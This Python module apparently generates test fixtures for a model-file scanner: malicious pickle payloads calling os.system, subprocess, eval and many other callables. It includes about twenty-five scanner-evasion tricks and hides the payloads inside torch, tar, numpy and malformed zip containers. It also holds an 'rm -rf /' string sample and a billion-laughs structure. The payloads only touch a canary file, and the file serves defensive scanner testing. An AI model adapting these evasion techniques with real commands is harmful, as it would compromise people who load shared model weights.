"""Files as the tests of fickling and picklescan use them: what they call, and how they hide it, built here anew.

Each payload is an expression: opcodes that leave one value on the pickle's stack. Whoever unpickles one that works
makes the file that CANARY names in the environment. `python -m tests.weights.payloads FOLDER` writes all files.
"""

import collections
import datetime
import decimal
import fractions
import io
import marshal
import os
import pickle
import struct
import sys
import tarfile
import types
import uuid
import zipfile
from pathlib import Path, PurePosixPath

import numpy as np
import torch

from . import files

CANARY = 'MMVSSM_CANARY'
SHELL = f'touch "${CANARY}"'
PYTHON = f'open(__import__("os").environ["{CANARY}"], "w").close()'


def text(value: str) -> bytes:
    return b'X' + struct.pack('<I', len(value.encode())) + value.encode()


def raw(value: bytes) -> bytes:
    return b'B' + struct.pack('<I', len(value)) + value


def many(*items: bytes) -> bytes:
    """A tuple."""
    return b'(' + b''.join(items) + b't'


def listed(*items: bytes) -> bytes:
    return b'](' + b''.join(items) + b'e'


def named(module: str, name: str) -> bytes:
    """GLOBAL."""
    return f'c{module}\n{name}\n'.encode()


def stacked(module: bytes, name: bytes) -> bytes:
    """STACK_GLOBAL of two expressions."""
    return module + name + b'\x93'


def call(function: bytes, *args: bytes) -> bytes:
    """REDUCE."""
    return function + many(*args) + b'R'


def whole(expression: bytes) -> bytes:
    """A pickle."""
    return b'\x80\x04' + expression + b'.'


def in_a_state(expression: bytes) -> bytes:
    """A dict that has a value beside it, as a checkpoint's."""
    return b'}(' + text('epoch') + b'K\x01' + text('model') + expression + b'u'


# module name: what is called with a command or with Python code, in one or the other test-suite
_CALLED = """
    _aix_support _read_cmd_output, _io FileIO, _osx_support _read_output, _pickle loads, _pyrepl.pager pipe_pager,
    __builtin__ eval, __builtin__ exec, __builtin__ compile, __builtin__ apply, __builtins__ eval,
    aiohttp.client ClientSession, asyncio.unix_events _UnixSubprocessTransport._start, bdb Bdb, bdb Bdb.run,
    builtins eval, builtins exec, builtins compile, builtins open, builtins breakpoint, builtins __import__,
    cPickle loads, cProfile run, cProfile runctx, cloudpickle.cloudpickle _make_function,
    cloudpickle.cloudpickle _builtin_type, cloudpickle.cloudpickle subimport, code InteractiveConsole,
    code InteractiveInterpreter, code InteractiveInterpreter.runcode, commands getoutput, ctypes CDLL,
    ctypes.util find_library, distutils.file_util write_file, doctest debug_script, ensurepip _run_pip,
    fickling.hook deactivate_safe_ml_environment, fickling.hook remove_hook, http.client HTTPSConnection,
    httplib HTTPSConnection, idlelib.autocomplete AutoComplete.fetch_completions,
    idlelib.autocomplete AutoComplete.get_entity, idlelib.calltip Calltip.fetch_tip, idlelib.calltip get_entity,
    idlelib.debugobj ObjectTreeItem.SetText, idlelib.pyshell ModifiedInterpreter.runcode,
    idlelib.pyshell ModifiedInterpreter.runcommand, idlelib.run Executive.runcode, imaplib IMAP4_stream,
    importlib import_module, importlib.util find_spec, lib2to3.pgen2.grammar Grammar.loads,
    lib2to3.pgen2.pgen ParserGenerator.make_label, logging FileHandler, marshal loads, model_unpickler some_func,
    modelaudit some_func, modelscan some_func, multiprocessing.util spawnv_passfds, nt system,
    numpy.f2py.crackfortran getlincoef, numpy.testing._private.utils runstring, operator attrgetter,
    operator itemgetter, operator methodcaller, os execv, os popen, os system, pdb run, picklescan some_func,
    pickle loads, pip main, pkgutil resolve_name, posix system, posixpath join, profile Profile.run,
    profile Profile.runctx, profile run, pty spawn, pydoc locate, pydoc pipepager, requests.api get, runpy _run_code,
    runpy run_module, runpy run_path, saferpickle some_func, shutil rmtree, socket create_connection, socket socket,
    ssl get_server_certificate, subprocess Popen, subprocess call, subprocess check_output, subprocess run, sys exit,
    test.support.script_helper assert_python_ok, timeit timeit, torch._dynamo.guards GuardBuilder.get,
    torch._inductor.codecache compile_file,
    torch.fx.experimental.symbolic_shapes ShapeEnv.evaluate_guards_expression,
    torch.jit.unsupported_tensor_ops execWrapper, torch.serialization load,
    torch.utils._config_module ConfigModule.load_config, torch.utils.bottleneck.__main__ run_autograd_prof,
    torch.utils.bottleneck.__main__ run_cprofile, torch.utils.collect_env run,
    torch.utils.data.datapipes.utils.decoder basichandlers, trace Trace.run, trace Trace.runctx, types CodeType,
    types FunctionType, urllib.request urlopen, uuid _get_command_stdout, venv create, webbrowser open
"""
CALLED = [tuple(entry.split()) for entry in _CALLED.split(',')]
# of these, the ones that take a shell's command, or (the second) several arguments
COMMANDS = {'system', 'popen', 'getoutput', 'IMAP4_stream', '_get_command_stdout'}
ARGUMENTS = {
    ('builtins', 'compile'): (text(PYTHON), text('<string>'), text('exec')),
    ('os', 'execv'): (text('/bin/sh'), listed(text('sh'), text('-c'), text(SHELL))),
    ('timeit', 'timeit'): (text(''), text(PYTHON)),
    ('numpy.testing._private.utils', 'runstring'): (text(PYTHON), b'}'),
    ('torch.jit.unsupported_tensor_ops', 'execWrapper'): (text(PYTHON), b'}', b'}'),
    ('socket', 'create_connection'): (many(text('localhost'), b'K\x01'),),
    ('sys', 'exit'): (b'K\x00',),
}
ARGUMENTS.update(
    {
        ('subprocess', name): (listed(text('sh'), text('-c'), text(SHELL)),)
        for name in ('Popen', 'call', 'check_output', 'run')
    }
)


def calls() -> dict[str, bytes]:
    """The calls of CALLED."""
    return {
        f'{module}.{name}': call(
            named(module, name),
            *ARGUMENTS.get((module, name), (text(SHELL if name in COMMANDS else PYTHON),)),
        )
        for module, name in CALLED
    }


SYSTEM = named('os', 'system')
RUN = call(SYSTEM, text(SHELL))
LETTERS = 'emosty'  # of 'os' and 'system'


def picked(word: str) -> bytes:
    """A word that is put together while the pickle is read: ''.join(itemgetter(...)(LETTERS))."""
    places = (b'K' + bytes([LETTERS.index(letter)]) for letter in word)
    letters = call(call(named('operator', 'itemgetter'), *places), text(LETTERS))
    return call(call(named('builtins', 'getattr'), text(''), text('join')), letters)


IMPORTED = call(named('builtins', '__import__'), text('os'))
CODE = compile(PYTHON, '<string>', 'exec')
PARTIAL = named('functools', 'partial')

# how a call is hidden; each works, so that the canary proves what the others do not
TRICKS = {
    'stack global': call(stacked(text('os'), text('system')), text(SHELL)),
    'stack global of strings': call(stacked(b"S'os'\n", b"S'system'\n"), text(SHELL)),
    'stack global of the memo': text('os') + b'q\x020' + text('system') + b'q\x030' + text('torch') + b'q\x000'
    b'h\x02h\x03\x93' + many(text(SHELL)) + b'R',
    'stack global of words put together': call(stacked(picked('os'), picked('system')), text(SHELL)),
    'inst': b'(' + text(PYTHON) + b'ibuiltins\nexec\n',
    'inst of python 2': b'(' + text(PYTHON) + b'i__builtin__\nexec\n',
    'obj': b'(' + SYSTEM + text(SHELL) + b'o',
    'function by the memo': SYSTEM + b'q\x070h\x07' + many(text(SHELL)) + b'R',
    'result dropped': RUN + b'0}',
    'result dropped to a mark': b'(' + RUN + b'1}',
    'two protocols': RUN + b'\x80\x01\x80\x02',
    'in a list': listed(RUN),
    'key of a dict': b'}' + RUN + b'K\x01s',
    'in a set': b'\x8f(' + RUN + b'\x90',
    'pickle in a pickle': call(named('pickle', 'loads'), raw(whole(RUN))),
    'pickle in a pickle, in C': call(named('_pickle', 'loads'), raw(whole(RUN))),
    'attrgetter': call(call(call(named('operator', 'attrgetter'), text('system')), IMPORTED), text(SHELL)),
    'methodcaller': call(call(named('_operator', 'methodcaller'), text('system'), text(SHELL)), IMPORTED),
    'getattr': call(
        call(named('builtins', 'getattr'), call(named('importlib', 'import_module'), text('os')), text('system')),
        text(SHELL),
    ),
    'located': call(call(named('pydoc', 'locate'), text('os.system')), text(SHELL)),
    'resolved': call(call(named('pkgutil', 'resolve_name'), text('os:system')), text(SHELL)),
    'partial': call(call(PARTIAL, SYSTEM, text(SHELL))),
    'code object': call(
        call(named('types', 'FunctionType'), call(named('marshal', 'loads'), raw(marshal.dumps(CODE))), b'}')
    ),
    'shell of a dotted name': call(stacked(text('torch'), text('os.system')), text(SHELL)),
}
# these change what the test's own process uses, or stop half-way: never run
UNRUN = {
    'attribute replaced': named('torch', '_utils')
    + b'}'
    + text('_rebuild_tensor')
    + stacked(text('torch'), text('os.system'))
    + b'sb0'
    + call(named('torch._utils', '_rebuild_tensor'), text(SHELL)),
    'result built': RUN + text('gottem') + b'b',
    'module replaced': named('sys', 'modules') + text('os') + named('torch', 'Tensor') + b's',
    'module named': named('sys', 'modules'),
    'class named': named('subprocess', 'Popen'),
    'partial of torch.load': call(
        call(PARTIAL, named('torch.serialization', 'load'))
        + many(named('torch.serialization', 'load'), many(text('other.bin')), b'}', b'N')
        + b'b'
    ),
    'globals of python 2': call(named('__builtin__', 'globals'))
    + b'q\x010'
    + call(
        named('__builtin__', 'apply'),
        call(named('__builtin__', 'getattr'), named('__builtin__', 'dict'), text('get')),
        listed(b'h\x01', text('x')),
    ),
    'unknown memo': RUN + b'0' + text('os') + b'\x94h\x77h\x00\x93',
    'number as module': RUN + b'0K\x2a\x94' + text('os') + b'\x94h\x00h\x01\x93',
    'cut after the call': RUN + b'X\xff\xff',
    'bytes after the end': RUN + b'.\n\n\t\t',
    'extension code': b'\x82\x01' + many(text(SHELL)) + b'R',
    'persistent id': many(text('storage'), RUN) + b'Q',
    'poly1d and builtins': call(call(named('numpy', 'poly1d'), b'N'), named('numpy', '__builtins__'), text('eval')),
    'mock of a debugger': call(named('bdb', 'Bdb.run'), named('bdb', 'Bdb') + b')\x81', text(PYTHON)),
}
EXPRESSIONS = {**calls(), **TRICKS, **UNRUN}


def archived(*entries: tuple[str, bytes], how: int = zipfile.ZIP_STORED) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, 'w', how) as archive:
        for name, data in entries:
            archive.writestr(name, data)
    return stream.getvalue()


def in_zip(pickled: bytes) -> bytes:
    """torch's archive."""
    return archived(('archive/data.pkl', pickled), ('archive/version', b'3\n'))


def in_legacy(pickled: bytes, magic: bytes | None = None) -> bytes:
    """torch's older stream; `magic` is the pickle that stands for its first number."""
    first, version = pickle.dumps(0x1950A86A20F9469CFC6C, 2), pickle.dumps(1001, 2)
    system = pickle.dumps({'protocol_version': 1001, 'little_endian': True, 'type_sizes': {}}, 2)
    return (magic or first) + version + system + pickled + pickle.dumps([], 2)


def in_tar(name: str, pickled: bytes, mode: str = 'w') -> bytes:
    stream = io.BytesIO()
    with tarfile.open(fileobj=stream, mode=mode) as archive:
        info = tarfile.TarInfo(name)
        info.size = len(pickled)
        archive.addfile(info, io.BytesIO(pickled))
    return stream.getvalue()


def in_array() -> bytes:
    """A numpy file whose one object is made by a call."""
    stream = io.BytesIO()
    np.save(stream, np.array([files.Attack(os.system, SHELL)], dtype=object), allow_pickle=True)
    return stream.getvalue()


def altered(data: bytes, mark: bytes, offset: int, value: bytes) -> bytes:
    """Bytes that are replaced at a distance from the last `mark`."""
    place = data.rindex(mark) + offset
    return data[:place] + value + data[place + len(value) :]


def flagged(flag: int) -> bytes:
    """A zip archive whose entries have a flag that readers stop at (encrypted, patched ...)."""
    data = archived(('data.pkl', whole(RUN)))
    return altered(altered(data, b'PK\x03\x04', 6, bytes([flag])), b'PK\x01\x02', 8, bytes([flag]))


def containers() -> dict[str, bytes]:
    """Files, by name: the same call where a reader or a scanner may not look."""
    bad, good = whole(RUN), whole(in_a_state(b'K\x01'))
    plain = archived(('data.pkl', bad))
    return {
        **{f'bare.{suffix}': bad for suffix in ('pkl', 'bin', 'pt', 'pth', 'txt')},
        'bare': bad,
        **{f'protocol{n}.zip': in_zip(pickle.dumps(files.Attack(os.system, SHELL), n)) for n in range(6)},
        'root.zip': plain,
        'deep.zip': archived(('level1/level2/level3/data.pkl', bad)),
        'other_name.zip': archived(('level1/level2/deep_model.pkl', bad)),
        'compressed.zip': archived(('model/archive/data.pkl', bad), ('model/version', b'1'), how=zipfile.ZIP_DEFLATED),
        'text_name.zip': archived(('data.txt', bad)),
        'several.zip': archived(('data/safe.pkl', good), ('data/payload.pkl', bad), ('data/safe2.pkl', good)),
        'beside.pth': archived(('archive/data.pkl', good), ('archive/payload.pkl', bad)),
        'beside_as_bin.pth': archived(('archive/data.pkl', good), ('archive/pytorch_model.bin', bad)),
        'torchscript.pt': archived(('archive/data.pkl', bad), ('archive/constants.pkl', good)),
        'zip_in_zip.zip': archived(('inner.zip', plain)),
        'encrypted_flag.zip': flagged(0x01),
        'patched_flag.zip': flagged(0x20),
        'strong_flag.zip': flagged(0x40),
        'names_differ.zip': plain.replace(b'data.pkl', b'datap.kl', 1),
        'directory_checksum.zip': altered(plain, b'PK\x01\x02', 16, b'\0\1\2\3'),
        'data_checksum.zip': plain.replace(b'touch', b'TOUCH', 1),
        'cut.zip': plain[:-10],
        'zip_after_text.zip': b'plain text' + plain,
        'legacy_then_zip.pth': in_legacy(good) + plain,
        'pickle_then_zip.pth': good + plain,
        'zip_then_pickle.pth': in_zip(good + bad),
        'legacy_then_pickle.pth': in_legacy(good) + bad,
        'legacy_magic.pt': in_legacy(good, whole(call(named('__builtin__', 'eval'), text('0x1950A86A20F9469CFC6C')))),
        'legacy_keys.pt': in_legacy(good)[: -len(pickle.dumps([], 2))] + bad,
        'legacy_system.pt': in_legacy(whole(RUN) + good),
        'two_pickles.pkl': good + bad,
        'old_torch.tar': in_tar('pickle', bad),
        'packed.tar.gz': in_tar('payload.pkl', bad, 'w:gz'),
        'object.npy': in_array(),
        'objects.npz': archived(('a.npy', in_array())),
        'signature.7z': b"7z\xbc\xaf'\x1c\0\4" + bad,
        'picture.pt': b'\x89PNG\r\n\x1a\n' + bad,
        'cut.pth': in_zip(bad)[:60],
    }


HOLDERS = {'pkl': bytes, 'zip': in_zip, 'legacy': in_legacy}  # how an expression becomes a file


def held(expression: bytes) -> dict[str, bytes]:
    """Files of an expression: as the whole content and inside of a state dict, in each of HOLDERS."""
    pickles = {'alone': whole(expression), 'inside': whole(in_a_state(expression))}
    return {f'{place}_{kind}.pth': hold(pickles[place]) for kind, hold in HOLDERS.items() for place in pickles}


def laughs(levels, times):
    """A list that holds another so many times, which holds a third ...: who prints it does not end."""
    value = ['lol']
    for _ in range(levels):
        value = [value] * times
    return value


def notes():
    """What lies beside the weights in files that people share, and what only looks like an attack."""
    return {
        'text': "import os; os.system('rm -rf /'); eval('x')",
        'keys': {'exec': 1, 'os': 2, 'subprocess': 3, '__reduce__': 4},
        'numbers': [np.float64(82.5), np.int32(42), np.float32(0.5), np.bool_(True)],
        'array': np.arange(6.0).reshape(2, 3),
        'counts': collections.Counter('abca'),
        'ordered': collections.OrderedDict(a=1),
        'later': [collections.defaultdict(int, a=1), collections.defaultdict(str), range(3)],
        'last': collections.deque([1, 2], maxlen=2),
        'sets': [{1, 2}, frozenset('ab'), slice(1, 2), 1j],
        'time': [datetime.datetime(2024, 1, 2), datetime.date(2024, 1, 2), datetime.timedelta(days=1)],
        'zone': [datetime.timezone.utc, datetime.time(12)],
        'exact': [decimal.Decimal('1.5'), fractions.Fraction(1, 3), uuid.UUID(int=5)],
        'path': PurePosixPath('/usr/local'),
        'settings': types.SimpleNamespace(lr=0.1),
        'log': io.BytesIO(b'text'),
        'laughs': laughs(10, 10),
        'type': torch.float16,
        'size': torch.Size([1, 2]),
        'device': torch.device('cpu'),
    }


TRAINERS = {make.__name__: make for make in (files.vmamba_training, files.vim_training, files.mmengine_detector)}


def write_plain(path: Path, name: str, kind: str) -> Path:
    """A file that is no attack: of a trainer, or with one of the notes."""
    if name in TRAINERS:
        return TRAINERS[name](path, kind)
    return files.save(path, {'model': files.small_state(), name: notes()[name]}, kind)


def write_all(folder: Path) -> None:
    """Every payload, in folders by what it is."""
    for name, expression in EXPRESSIONS.items():
        for kind, data in held(expression).items():
            target = folder / 'expressions' / f'{name.replace(" ", "_").replace(",", "")}.{kind}'
            target.parent.mkdir(parents=True, exist_ok=True)
            target.write_bytes(data)
    (folder / 'containers').mkdir(exist_ok=True)
    for name, data in containers().items():
        (folder / 'containers' / name).write_bytes(data)


def main(folder: Path) -> None:
    write_all(folder)
    (folder / 'plain').mkdir(exist_ok=True)
    for kind in files.FORMATS:
        for name in (*notes(), *TRAINERS):
            write_plain(folder / 'plain' / f'{name}.{kind}.pth', name, kind)


if __name__ == '__main__':
    main(Path(sys.argv[1]))
